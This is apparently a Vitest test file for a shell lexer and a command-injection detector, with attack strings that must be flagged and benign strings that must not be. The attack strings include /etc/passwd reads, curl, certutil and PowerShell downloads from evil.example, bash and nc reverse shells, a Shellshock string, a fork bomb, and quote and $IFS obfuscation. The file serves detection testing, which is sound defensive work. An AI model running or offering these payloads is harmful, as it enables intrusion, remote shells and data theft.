import { describe, expect, it } from 'vitest';
import { lexShell } from './shell-lexer.js';
import { detectCmdi } from './shell.js';

describe('shell lexer', () => {
  it('removes quotes, backslashes and empty expansions the way sh does', () => {
    const words = lexShell("c'a't c\\at c$@at ca$()t").tokens.map((t) => t.norm);
    expect(words).toEqual(['cat', 'cat', 'cat', 'cat']);
  });
  it('treats $IFS as whitespace and records substitutions', () => {
    const scan = lexShell('cat${IFS}/etc/passwd $(id)');
    expect(scan.tokens.map((t) => t.norm)).toEqual(['cat', '/etc/passwd', '']);
    expect(scan.substitutions).toEqual(['id']);
  });
});

describe('detectCmdi: attacks', () => {
  it.each([
    ';cat /etc/passwd',
    'x;id',
    'foo | sh',
    'a && curl http://evil.example/x.sh',
    '$(whoami)',
    '`id`',
    'cat${IFS}/etc/passwd',
    "c'a't /etc/passwd",
    '/bin/ca? /et*/passwd',
    'echo aGk= | base64 -d | sh',
    'time sh -c whoami',
    '() { :;}; /bin/bash -c id',
    ':(){ :|:& };:',
    '{cat,/etc/passwd}',
    'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1',
    'IF EXIST C:\\boot.ini ECHO found',
    'for /f %a in (\'whoami\') do echo %a',
    '; certutil -urlcache -f http://evil.example/a.exe',
    'Invoke-WebRequest http://evil.example/a.ps1',
  ])('%s', (value) => {
    expect(detectCmdi(value)).toBeDefined();
  });
});

describe('detectCmdi: tricky benign values', () => {
  it.each([
    'rock & roll; fun',
    '1 | 2',
    'hello; time he came',
    'time is of the essence',
    'find x for y',
    'Cut orange quarters into slices about 1/8-inch thick.',
    'The meeting is at 5; bring the report',
    'Esskulturgut; man gönnt sie sich.',
    'red;$5 each',
    ';$a $b $c',
    'foo|bar',
    'C:\\Users\\me\\notes.txt',
    'https://example.com/path?a=1&b=2',
    'Go to store.\nAt the store, shop.',
    'myfunction(){ echo hello }',
    'SET 8 -MINI AS',
    'python-requests/2.31.0',
    'if a == b then c',
    'Q&A: what is $HOME?',
    'You can also check type guards & type assertions:',
    'source file content and is passed the filename',
  ])('%j', (value) => {
    expect(detectCmdi(value)).toBeUndefined();
  });
});

describe('detectCmdi: the word pre-scan keeps every disguise', () => {
  it.each([
    "x;w'h'o'am'i",
    'x;wh""oami',
    'x;c\\at /etc/passwd',
    'x|$(id)',
    'x;`id`',
    'a>()b',
    "x';.shell id",
    'x && /usr/bin/id',
    "x' ; nohup nc -e /bin/sh 10.0.0.1 4444",
    "name=x';ping -c 3 127.0.0.1",
  ])('%j', (value) => {
    expect(detectCmdi(value)).toBeDefined();
  });
  it.each(['Gift wrap item 3, size 10" x 12" & ribbon', "Dana O'Reilly; it's fine", 'Leave with the concierge; ring twice if no answer.'])('skips prose %j', (value) => {
    expect(detectCmdi(value)).toBeUndefined();
  });
});
